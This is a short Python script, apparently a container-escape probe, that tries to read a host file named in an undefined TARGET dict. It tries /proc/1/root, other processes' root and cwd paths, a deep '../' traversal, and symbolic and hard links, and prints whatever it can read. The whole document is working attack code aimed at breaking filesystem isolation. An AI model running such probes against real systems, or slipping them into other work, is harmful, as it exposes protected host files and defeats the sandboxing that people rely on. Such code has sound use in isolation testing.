"""Reading a file of the host by every path to it."""

import os

paths = [TARGET["file"], "/proc/1/root" + TARGET["file"], f"/proc/{TARGET['host']}/root" + TARGET["file"]]
paths += ["../" * 20 + TARGET["file"].lstrip("/"), f"/proc/{TARGET['victim']}/cwd" + TARGET["file"]]
os.symlink(TARGET["file"], "link")
for path in [*paths, "link"]:
    try:
        print("GOT", path, open(path).read())
    except OSError:
        continue
try:
    os.link(TARGET["file"], "hard")
    print("GOT", open("hard").read())
except OSError:
    pass
